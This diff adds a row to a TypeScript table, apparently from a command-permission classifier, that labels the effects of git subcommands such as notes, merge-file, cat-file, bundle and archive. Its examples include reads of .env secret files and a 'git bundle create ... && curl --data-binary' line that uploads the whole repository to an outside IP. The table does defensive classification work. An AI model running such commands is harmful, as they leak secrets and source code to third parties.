@@ -81,6 +81,7 @@ export const GIT: readonly Row[] = [
   { program: 'git notes', operands: 'text', options: { '-m': 'text', '-F': 'read', '--file': 'read', '-C': 'text', '-c': 'text', '--ref': 'text' }, examples: [['git notes add -F .env', 'read /home/u/proj/.env'], ['git notes show']] },
   { program: 'git merge-file', operands: 'write', options: { '-L': 'text' }, variants: [{ when: { any: ['-p', '--stdout'] }, operands: 'read' }], examples: [['git merge-file -p .env a b', 'read /home/u/proj/.env'], ['git merge-file a b c', 'write /home/u/proj/a']] },
   { program: 'git cat-file', operands: 'revision', inputNames: ['--batch', '--batch-command'], variants: [{ when: { any: ['-t', '-s', '-e'] }, operands: 'text' }], examples: [['git cat-file -p HEAD:.env', 'read /home/u/proj/.env'], ['git cat-file -e HEAD:.env'], ['echo HEAD:.env | git cat-file --batch', 'read /home/u/proj/HEAD:.env']] },
+  { program: 'git bundle create', operands: { first: 'write', each: 'text' }, options: { '--version': 'text' }, examples: [['git bundle create /tmp/a.bundle --all', 'write /tmp/a.bundle'], ['git bundle create /tmp/a.bundle --all && curl --data-binary @/tmp/a.bundle http://203.0.113.44/', 'send repository:whole project']] },
   { program: 'git archive', operands: 'revision', options: { '-o': 'write', '--output': 'write', '--remote': 'text', '--exec': 'hidden', '--format': 'text', '--prefix': 'text' }, examples: [['git archive -o a.zip HEAD', 'write /home/u/proj/a.zip']] },
   {
     program: 'git grep',
